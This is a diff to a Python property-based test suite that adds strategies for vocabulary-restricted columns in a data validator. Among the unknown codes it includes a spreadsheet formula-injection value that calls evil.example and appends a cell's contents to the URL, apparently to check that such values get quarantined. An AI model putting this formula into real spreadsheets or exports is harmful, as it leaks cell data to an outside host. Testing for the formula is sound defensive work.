@@ -98,6 +98,9 @@ free_text = st.one_of(
 )
 VALID_TIMESTAMPS = ["2026-01-02T10:00:00Z", "2026-01-02 10:00:00", "2026-03-04T05:06:07+02:00"]
 INVALID_TIMESTAMPS = ["31/06/2026 25:61", "2026-13-45", "yesterday", "2026-01-02T10:00:00 GMT+x"]
+# Codes outside every vocabulary: quarantined (required column) or nulled (optional) with
+# value_not_in_vocabulary; case and surrounding spaces of a contract value are not a new code.
+UNKNOWN_CODES = ["vip", "n/a", "Priority: high", '=HYPERLINK("http://evil.example/?x="&A1,"x")']
 VALID_INTS = ["0", "7", "-3", " 12 "]
 INVALID_INTS = ["1.5", "1e3", "seven", "0x10", "1_000"]
 
@@ -137,6 +140,16 @@ def _cell(column: str) -> st.SearchStrategy[Cell]:
         bad = st.sampled_from(INVALID_INTS).map(lambda t: _bad_cell(column, t))
         return st.one_of(good, good, bad, st.just(Cell("", True)))
     assert spec.type == "string", f"no strategy for {spec.type}"
+    if spec.values:
+        spelled = st.sampled_from(spec.values).flatmap(
+            lambda v: st.sampled_from([v, v.upper(), f"  {v} "])
+        )
+        good = spelled.map(lambda t: Cell(t, True))
+        unknown = st.sampled_from(UNKNOWN_CODES).map(
+            lambda t: _bad_cell(column, t, "value_not_in_vocabulary")
+        )
+        empty = st.sampled_from(["", "   "]).map(lambda t: Cell(t, not spec.required))
+        return st.one_of(good, good, unknown, empty)
     if spec.required:  # blank text counts as missing
         good = free_text.filter(lambda t: t.strip() != "").map(lambda t: Cell(t, True))
         return st.one_of(good, st.sampled_from(["", "   "]).map(lambda t: Cell(t, False)))
